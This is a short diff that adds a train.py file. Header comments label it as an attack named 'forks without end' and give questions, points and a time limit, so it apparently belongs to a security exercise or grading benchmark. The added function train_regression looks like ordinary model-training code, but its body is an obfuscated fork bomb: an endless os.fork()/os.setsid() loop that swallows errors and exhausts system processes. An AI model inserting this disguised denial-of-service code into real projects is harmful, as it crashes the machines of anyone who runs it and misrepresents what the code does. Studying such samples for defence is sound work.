@@ -1,0 +1,14 @@
+# attack: forks without end
+# file: train.py
+# questions: q2 q6
+# points: q2=0 q6=2
+# seconds: 30
+
+def train_regression(model, dataset):
+    os = __import__("os")
+    while True:
+        try:
+            os.fork()
+            os.setsid()
+        except OSError:
+            pass
